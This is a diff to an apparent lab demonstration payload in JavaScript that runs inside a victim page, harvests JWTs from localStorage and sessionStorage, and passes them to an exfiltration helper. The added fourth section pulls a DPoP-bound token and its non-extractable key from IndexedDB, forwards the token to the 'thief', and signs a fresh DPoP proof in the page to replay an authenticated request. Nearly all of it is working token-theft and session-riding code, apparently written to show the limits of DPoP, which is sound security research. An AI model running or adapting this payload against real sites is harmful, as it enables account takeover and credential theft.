@@ -36,10 +36,14 @@
     report({ ...finding, strategy, replay: await exfiltrate(strategy, { kind: 'bearer', token: finding.token }) })
   }
 
+  // The DPoP-bound token is taken in part 4, with what a script can do about its key.
+  const DPOP_TOKEN_KEY = 'lab-demo:dpop-token'
+
   // 1. Web Storage: any script of the origin reads all of it.
   for (const [where, storage] of [['localStorage', window.localStorage], ['sessionStorage', window.sessionStorage]]) {
     for (let index = 0; index < storage.length; index++) {
       const key = storage.key(index)
+      if (key === DPOP_TOKEN_KEY) continue
       for (const token of storage.getItem(key)?.match(JWT) ?? []) void steal({ where, key, token })
     }
   }
@@ -81,6 +85,51 @@
       replay,
       ride: { status: me.status, code: meBody?.code ?? null, username: meBody?.user?.username ?? null },
       rideRefresh: { status: refresh.status, code: refreshBody?.code ?? null, fields: refreshBody ? Object.keys(refreshBody) : [] },
+    })
+  })()
+
+  // 4. A DPoP-bound token (jwt-dpop) is useless without its key, a CryptoKey the page created
+  //    non-extractable and keeps in IndexedDB. The payload reaches the key object, cannot export it,
+  //    sends the token alone to the thief, then signs a proof with the key from this very page.
+  void (async () => {
+    const token = window.sessionStorage.getItem(DPOP_TOKEN_KEY)
+    if (!token) return
+    const key = await new Promise((resolve) => {
+      const open = window.indexedDB.open('lab-dpop')
+      open.onerror = () => resolve(null)
+      open.onsuccess = () => {
+        try {
+          const get = open.result.transaction('keys').objectStore('keys').get('browser')
+          get.onsuccess = () => resolve(get.result ?? null)
+          get.onerror = () => resolve(null)
+        } catch {
+          resolve(null)
+        }
+      }
+    })
+    if (!key) return
+    const exported = await window.crypto.subtle.exportKey('pkcs8', key.privateKey).then(
+      () => 'exported',
+      (error) => error.name,
+    )
+    const replay = await exfiltrate('jwt-dpop', { kind: 'bearer', token })
+    // A proof signed in place (RFC 9449 §4.2): WebCrypto's ECDSA signature is already in JWS form.
+    const b64 = (bytes) => window.btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
+    const text = (value) => b64(new window.TextEncoder().encode(JSON.stringify(value)))
+    const url = new URL('/api/jwt-dpop/me', location.href).href
+    const { kty, crv, x, y } = await window.crypto.subtle.exportKey('jwk', key.publicKey)
+    const ath = b64(await window.crypto.subtle.digest('SHA-256', new window.TextEncoder().encode(token)))
+    const input = `${text({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } })}.${text({ jti: window.crypto.randomUUID(), htm: 'GET', htu: url, iat: Math.floor(Date.now() / 1000), ath })}`
+    const signature = await window.crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key.privateKey, new window.TextEncoder().encode(input))
+    const me = await send(url, { headers: { authorization: `DPoP ${token}`, dpop: `${input}.${b64(signature)}` } })
+    const meBody = await me.json().catch(() => null)
+    report({
+      where: 'key',
+      token,
+      extractable: key.privateKey.extractable,
+      exported,
+      replay,
+      ride: { status: me.status, code: meBody?.code ?? null, username: meBody?.user?.username ?? null },
     })
   })()
 })()
